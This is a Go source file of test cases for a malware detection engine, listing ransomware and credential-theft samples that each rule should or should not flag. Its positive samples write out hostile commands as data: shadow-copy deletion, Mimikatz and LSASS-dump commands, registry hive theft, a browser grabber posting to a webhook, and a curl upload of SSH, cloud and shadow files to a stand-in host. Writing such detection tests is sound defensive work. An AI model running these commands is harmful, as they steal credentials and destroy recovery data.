package builtin

func ransomExamples() []example {
	return []example{{
		rule: "Tyto_Ransom_Note",
		fires: []object{
			text("/home/ann/README.txt", "All your files have been encr·ypted!", "Do not ren·ame encrypted files.",
				"Third-party soft·ware will destroy them.", "Contact us: http://abcdef.on·ion", "Your personal ·ID: 1234"),
		},
		silent: []object{
			text("/usr/share/doc/disk/README.txt", "Your data are encrypted with your own key. Do not rename key files. Recovery tools are included.", "The personal id is optional."),
			text("/usr/share/doc/tor/README.txt", "Get Tor Browser from torproject.org, or at the .onion address. Your key: see below."),
		},
	}, {
		rule: "Tyto_Ransom_RecoveryDestroyed",
		fires: []object{
			text(`C:\a.bat`, "vssad·min delete shad·ows /all /quiet", "wmic shadow·copy delete", "bcde·dit /set {default} recoveryen·abled no"),
			raw(`C:\a.exe`, plainPE(wide("vssad·min.exe Delete Shad·ows /All")+wide("wbad·min delete cata·log")+wide("bcde·dit /set {default} bootstatus·policy ignoreallfailures"))),
		},
		silent: []object{
			text(`C:\space.bat`, "vssad·min delete shad·ows /for=c: /oldest", "vssad·min list shadows"),
			text("/docs/ransomware.md", "vssad·min delete shad·ows", "wmic shadow·copy delete", "wbad·min delete cata·log"),
		},
	}}
}

func credentialExamples() []example {
	return []example{{
		rule:   "Tyto_Credential_Mimikatz",
		fires:  []object{raw(`C:\a.exe`, plainPE(wide("gentil·kiwi")+wide("mimi·katz")+wide("sekur·lsa")+"kuhl·_m_lsadump"+wide("lsa·dump")+wide("logon·passwords")))},
		silent: []object{raw(`C:\antivirus.dll`, plainPE("HackTool.Mimi·katz\x00Trojan.gentil·kiwi\x00wdigest.dll"))},
	}, {
		rule: "Tyto_Credential_MimikatzCommands",
		fires: []object{
			text(`C:\a.bat`, "m.exe privi·lege::debug sekur·lsa::logonpasswords exit"),
			text(`C:\Users\ann\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt`, "Invoke-Mimi·katz -Command 'lsa·dump::sam'"),
		},
		silent: []object{
			text("/docs/t1003.md", "privi·lege::debug", "sekur·lsa::logonpasswords"),
			text(`C:\b.ps1`, "# blocks sekur·lsa::"),
		},
	}, {
		rule: "Tyto_Credential_LsassDump",
		fires: []object{
			text(`C:\a.bat`, `rundll32 C:\Windows\System32\coms·vcs.dll, Mini·Dump 624 C:\Temp\lsass.dmp full`),
			text(`C:\b.ps1`, `.\proc·dump64.exe -accepteula -ma ls·ass.exe out.dmp`),
		},
		silent: []object{text(`C:\c.bat`, "procdump -ma w3wp.exe out.dmp", "tasklist /fi \"imagename eq lsass.exe\"")},
	}, {
		rule: "Tyto_Credential_RegistryHives",
		fires: []object{
			text(`C:\a.bat`, `reg sa·ve HKLM\S·AM sam.hiv`, `reg sa·ve HKLM\SYS·TEM system.hiv`),
			text(`C:\b.cmd`, `ntds·util "ac i ntds" "ifm" "create full c:\temp" q q`),
		},
		silent: []object{text(`C:\c.bat`, `reg sa·ve HKLM\SYS·TEM backup.hiv`, `reg save HKLM\SOFTWARE software.hiv`)},
	}, {
		rule: "Tyto_Credential_BrowserGrabber",
		fires: []object{
			text("/tmp/a.py", `"Login ·Data"; "Local ·State"; key = state["os_·crypt"]["encrypted_key"]; Crypt·UnprotectData(key)`, `requests.po·st("https://discord.com/api/web·hooks/1", files=f)`),
		},
		silent: []object{
			// A cookie reader has all of it but the sending.
			text("/usr/lib/python3/cookies.py", `"Login ·Data"; "Local ·State"; key = state["os_·crypt"]["encrypted_key"]; Crypt·UnprotectData(key)`),
		},
	}, {
		rule: "Tyto_Credential_Keylogger",
		fires: []object{
			text("/tmp/a.py", "from pyn·put.keyboard import Listener", "import smtp·lib"),
			text(`C:\a.ps1`, "[DllImport] GetAsync·KeyState", "Send-Mail·Message -To x"),
		},
		silent: []object{text("/src/game.py", "from pyn·put.keyboard import Listener"), text("/src/mail.py", "import smtp·lib", "keyboard = None")},
	}, {
		rule: "Tyto_Credential_FileGrabber",
		fires: []object{
			text("/tmp/a.sh", "tar cf /tmp/o ~/.ss·h/id_rsa ~/.a·ws/credentials ~/.kub·e/config /etc/sha·dow", "cu·rl -F f=@/tmp/o http://192.0.2.1"),
		},
		silent: []object{
			text("/src/backup.sh", "#!/bin/sh", "tar cf backup.tar ~/.ss·h/id_rsa ~/.a·ws/credentials ~/.kub·e/config ~/.net·rc"),
			text("/src/deploy.sh", "#!/bin/sh", "KUBECONFIG=~/.kub·e/config cu·rl -F f=@dist.tar https://example.org"),
		},
	}}
}
